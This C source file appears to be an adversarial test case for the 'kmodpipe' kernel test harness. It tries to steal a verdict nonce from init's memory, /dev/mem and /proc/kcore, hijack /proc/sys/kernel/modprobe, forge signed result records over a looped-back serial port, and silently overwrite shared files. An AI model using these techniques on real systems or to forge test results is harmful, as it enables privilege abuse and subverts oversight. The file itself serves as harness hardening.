// SPDX-License-Identifier: GPL-2.0-only
/*
 * A case that wants the nonce, and with it another verdict. Root in the guest, it tries what root can try, and
 * says on the console what it got. Run by the kernel in modprobe's place it has more rights than a case.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <unistd.h>

#ifndef TIOCM_LOOP
#define TIOCM_LOOP 0x8000               /* include/uapi/asm-generic/termios.h */
#endif

static FILE *console;

static int hexadecimal(const char *p)
{
	return strspn(p, "0123456789abcdef") >= 32;
}

/* "nonce", one byte, 32 digits: as the plan has it, or what is left of it. */
static int search(const char *where, char *data, ssize_t size)
{
	for (ssize_t i = 0; i + 38 < size; i++)
		if (!memcmp(data + i, "nonce", 5) && hexadecimal(data + i + 6)) {
			fprintf(console, "STOLEN from %s: %.32s\n", where, data + i + 6);
			return 1;
		}
	return 0;
}

static void look_into(const char *path)
{
	static char data[1 << 20];
	int fd = open(path, O_RDONLY | O_NONBLOCK);
	ssize_t size = fd < 0 ? -1 : read(fd, data, sizeof(data) - 1);

	fprintf(console, "thief: %s: %s\n", path, size < 0 ? strerror(errno) : "read");
	while (size > 0) {
		data[size] = 0;
		search(path, data, size);
		size = read(fd, data, sizeof(data) - 1);
	}
	close(fd);
}

static void look_into_memory(void)
{
	static char data[1 << 20], line[512];
	FILE *maps = fopen("/proc/1/maps", "re");
	int mem = open("/proc/1/mem", O_RDONLY);

	fprintf(console, "thief: /proc/1/mem: %s\n", mem < 0 || !maps ? strerror(errno) : "open");
	while (maps && mem >= 0 && fgets(line, sizeof(line), maps)) {
		unsigned long from, to;

		if (sscanf(line, "%lx-%lx", &from, &to) != 2)
			continue;
		for (; from < to; from += sizeof(data) - 64) {
			size_t want = to - from < sizeof(data) - 1 ? to - from : sizeof(data) - 1;
			ssize_t size = pread(mem, data, want, from);

			if (size > 0)
				search("/proc/1/mem", data, size);
		}
	}
}

static void trace(void)
{
	static char data[4096];
	struct iovec here = { data, sizeof(data) }, there = { (void *)0x400000, sizeof(data) };

	fprintf(console, "thief: ptrace: %s\n", ptrace(PTRACE_SEIZE, 1, 0, 0) < 0 ? strerror(errno) : "TRACED");
	fprintf(console, "thief: process_vm_readv: %s\n",
		process_vm_readv(1, &here, 1, &there, 1, 0) < 0 ? strerror(errno) : "READ");
}

/* The kernel runs what /proc/sys/kernel/modprobe names, where every file is still to be seen. */
static void be_called_by_the_kernel(const char *self)
{
	int fd = open("/proc/sys/kernel/modprobe", O_WRONLY);

	if (fd < 0 || write(fd, self, strlen(self)) < 0)
		fprintf(console, "thief: modprobe: %s\n", strerror(errno));
	close(fd);
	mount("none", "/mnt", "nosuchfs", 0, NULL);
}

/* The port again, in loopback: what the agent sends comes back to who reads. Then the end, forged. */
static void listen_in(const char *index)
{
	/* The agent reads the port as well: it must not be the first. */
	const struct sched_param first = { .sched_priority = 99 };
	char data[4096] = "", mark[64] = "", mac[64] = "", *record;
	unsigned long number = 0;
	int fd, bits = TIOCM_LOOP;
	ssize_t size = 0, n;

	mknod("/work/port", S_IFCHR | 0600, makedev(4, 65));
	fd = open("/work/port", O_RDWR | O_NOCTTY | O_NONBLOCK);
	if (fd < 0 || sched_setscheduler(0, SCHED_FIFO, &first) < 0 || ioctl(fd, TIOCMBIS, &bits) < 0) {
		fprintf(console, "thief: loopback: %s\n", strerror(errno));
		return;
	}
	for (int i = 0; i < 300 && !strchr(data, '\n'); i++) {
		poll(&(struct pollfd){ .fd = fd, .events = POLLIN }, 1, 100);
		n = read(fd, data + size, sizeof(data) - 1 - size);
		size += n > 0 ? n : 0;
	}
	ioctl(fd, TIOCMBIC, &bits);
	record = strstr(data, "KP ");
	if (!record || sscanf(record, "KP %63s %lu %63s", mark, &number, mac) != 3) {
		fprintf(console, "thief: heard nothing\n");
		return;
	}
	fprintf(console, "thief: heard record %lu\n", number);
	/* With the nonce, or without a signature, this would be the end: the number that is due, and the last. */
	dprintf(fd, "KP %s %lu %s end case=%s how=exit status=0 ms=1 left=\n", mark, number, mac, index);
	dprintf(fd, "KP %s %lu %s done cases=1\n", mark, number + 1, mac);
}

/*
 * Writes over the first `before` in a file that is shared by all cases, through a mapping: neither its times nor
 * the room that it takes tell.
 */
static int scribble(const char *path, const char *before, const char *after)
{
	struct stat st;
	int fd;
	char *data, *at;

	mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
	fd = open(path, O_RDWR);
	if (fd < 0 || fstat(fd, &st) < 0)
		return 1;
	data = mmap(NULL, st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (data == MAP_FAILED || !(at = memmem(data, st.st_size, before, strlen(before))))
		return 1;
	memcpy(at, after, strlen(after));
	munmap(data, st.st_size);
	syscall(SYS_delete_module, "overlay", O_NONBLOCK);
	dprintf(3, "outcome\tthrough\n");
	return 0;
}

int main(int argc, char **argv)
{
	static const char *const places[] = {
		"/kmodpipe/plan", "/proc/1/environ", "/proc/1/cmdline", "/dev/mem", "/dev/kmem", "/proc/kcore",
		"/dev/kmsg", "/proc/cmdline", "/proc/1/auxv", "/proc/1/root/kmodpipe/plan", "/sys/firmware/initrd",
	};

	if (!getenv("KMODPIPE_CASE") && argc > 1) {
		/* Without the right to make nodes it must not become a file. */
		if (mknod("/dev/thief", S_IFCHR | 0600, makedev(5, 1)) == 0)
			console = fopen("/dev/thief", "w");
		else
			console = fopen("/dev/console", "w");
		if (!console)
			return 1;
		fprintf(console, "thief: run by the kernel\n");
		look_into_memory();
		trace();
		fclose(console);
		unlink("/dev/thief");
		return 1;
	}
	if (argc == 4)
		return scribble(argv[1], argv[2], argv[3]);
	console = fopen("/dev/console", "w");
	setvbuf(console, NULL, _IOLBF, 0);
	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++)
		look_into(places[i]);
	look_into_memory();
	trace();
	be_called_by_the_kernel(argv[0]);
	if (argc > 1)
		listen_in(argv[1]);
	return 1;
}
